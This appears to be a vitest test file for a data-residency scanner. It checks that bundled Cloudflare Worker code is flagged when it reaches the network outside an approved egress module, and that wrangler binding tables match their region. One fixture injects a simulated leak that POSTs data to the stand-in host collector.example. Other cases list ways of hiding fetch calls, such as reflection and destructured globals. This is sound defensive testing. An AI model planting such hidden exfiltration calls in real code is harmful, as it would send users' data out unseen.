import { build } from "esbuild";
import { describe, expect, test } from "vitest";
import { root } from "../../../scripts/config.ts";
import { codeFindings, readCode } from "../../../scripts/residency/code.ts";
import { readGraph } from "../../../scripts/residency/read.ts";
import { listedBindings, rehearsalFindings } from "../../../scripts/residency/rehearsal.ts";

const graph = readGraph();
const rules = (source: string) => codeFindings("api", source, graph).map(({ what }) => what);

describe("what the proof reads in a bundle (M-024)", () => {
  test.each([
    ["a call to a foreign host", `await fetch("https://example.com/x");`, "fetch to example.com"],
    [
      "a call to a host made of parts",
      `await fetch(\`https://example.com/\${id}\`);`,
      "fetch to example.com",
    ],
    ["a call to an address made elsewhere", "await fetch(url);", "fetch"],
    ["a global called by its full name", `globalThis.fetch("https://example.com");`, "globalThis.fetch"],
    ["a global by a text", `self["fetch"](url);`, "self.fetch"],
    ["a global kept for later", "const send = fetch;", "fetch"],
    ["a global taken apart", "const { fetch: send } = globalThis;", "{ fetch } of globalThis"],
    ["a global taken apart by a text", `const { ["fetch"]: send } = self;`, "{ fetch } of self"],
    ["a global taken apart as a whole", "const { crypto, ...rest } = globalThis;", "{ ... } of globalThis"],
    [
      "a global asked for by reflection",
      `Reflect.get(globalThis, "fetch")(url);`,
      "Reflect.get of globalThis",
    ],
    ["a socket", `import { connect } from "cloudflare:sockets";`, "sockets"],
    ["a web socket", "new WebSocket(url);", "WebSocket"],
    ["code from elsewhere", `await import("https://example.com/x.js");`, "import()"],
  ])("%s is an exit", (_, source, how) => {
    expect(rules(source)).toEqual([expect.stringContaining(how)]);
  });

  test("a binding's fetch, a handler named so and a parameter are none", () => {
    const source = `
      export default { fetch(request, env) { return env.API.fetch("https://api/health"); } };
      const via = ({ fetch }) => fetch("https://example.com");
      class Door { async fetch() {} }`;
    expect(rules(source)).toEqual([]);
  });

  test("an exit is allowed to the egress port's module and to nothing that stands after it", () => {
    const port = "// shared/http/egress.ts\nvar send = () => fetch(url);\n";
    expect(rules(port)).toEqual([]);
    expect(readCode(port).exits).toHaveLength(1);
    expect(rules(`${port}// shared/http/other.ts\nfetch(url);`)).toEqual([
      "shared/http/other.ts line 4: fetch",
    ]);
  });

  test.each(["leanvibe-eu-0", "tasks-us-dead", "https://x/leanvibe-files-uk/y", "api-us"])(
    "the name of a region's resource in %s is seen",
    (text) => {
      expect(rules(`const name = ${JSON.stringify(text)};`)).toHaveLength(1);
    },
  );

  test("words that only look alike are not", () => {
    expect(rules(`const names = ["leanvibe-{region}-0", "my-api-us-east", "leanvibe-directory"];`)).toEqual(
      [],
    );
  });
});

describe("a whole script as it is bundled", () => {
  /** The edge's own script, and beside it what somebody added in a module of the product. */
  async function bundled(added: string): Promise<string> {
    const leak = `import worker from "./workers/edge/index.ts"; export default worker; export const leak = ${added};`;
    const { outputFiles } = await build({
      stdin: { contents: leak, sourcefile: "shared/audit/leak.ts", resolveDir: root, loader: "ts" },
      ...{ bundle: true, write: false, format: "esm", target: "es2024", logLevel: "silent" },
      external: ["cloudflare:*", "node:*"],
      define: { __BUILD_ID__: '"test"' },
    });
    return outputFiles?.[0]?.text ?? "";
  }

  test("without an addition finds nothing; a bare fetch beside the port fails it, and is named", async () => {
    expect(rules(await bundled("1"))).toEqual([]);
    for (const [added, how] of [
      [
        `(body: string) => fetch("https://collector.example/in", { method: "POST", body })`,
        "fetch to collector.example",
      ],
      ["(url: string) => globalThis.fetch(url)", "globalThis.fetch"],
      ["() => { const { fetch: send } = globalThis; return send; }", "{ fetch } of globalThis"],
    ] as const) {
      expect(rules(await bundled(added))).toEqual([
        expect.stringMatching(
          new RegExp(`^shared/audit/leak\\.ts line \\d+: ${how.replaceAll(/[{}.]/g, "\\$&")}`),
        ),
      ]);
    }
  });
});

describe("what a rehearsed deployment would bind (M-025, M-026, M-027, M-028, M-029)", () => {
  const room = graph.find(({ name }) => name === "stripe-us");
  if (!room) throw new Error("there is no stripe-us");
  const table = `Your Worker has access to the following bindings:
Binding                                                       Resource
env.METER (TenantMeter, defined in objects-us)                Durable Object
env.EVENTS (stripe-us)                                        Queue
env.DB_0 (leanvibe-us-0)                                      D1 Database
env.DB_1 (leanvibe-us-1)                                      D1 Database
env.REGION ("us")                                             Environment Variable
env.STRIPE_LIVEMODE ("true")                                  Environment Variable
env.DO_JURISDICTION ("(hidden)")                              Environment Variable
`;

  test("wrangler's table is read", () => {
    expect(listedBindings(table)).toHaveLength(7);
    expect(rehearsalFindings(room, table)).toEqual([]);
  });

  test.each([
    ["another database", "leanvibe-us-1", "leanvibe-eu-0"],
    ["another host of objects", "objects-us", "objects-eu"],
    ["a binding nobody wrote", "env.DB_1", "env.DB_9 (leanvibe-eu-0)  D1 Database\nenv.DB_1"],
    ["a lost binding", /env.EVENTS.*\n/, ""],
    ["objects outside their jurisdiction", /env.DO_JURISDICTION.*\n/, ""],
  ])("%s is seen", (_, was, is) => {
    expect(rehearsalFindings(room, table.replace(was, is))).not.toEqual([]);
  });

  test("a jurisdiction asked for where none exists is seen", () => {
    const hinted = graph.find(({ name }) => name === "stripe-uk");
    if (!hinted) throw new Error("there is no stripe-uk");
    const rows = table
      .replaceAll("-us", "-uk")
      .replace('"us"', '"uk"')
      .replace(/env.DB_1.*\n/, "");
    expect(rehearsalFindings(hinted, rows)).toHaveLength(1);
    expect(rehearsalFindings(hinted, rows.replace(/env.DO_JURISDICTION.*\n/, ""))).toEqual([]);
  });
});
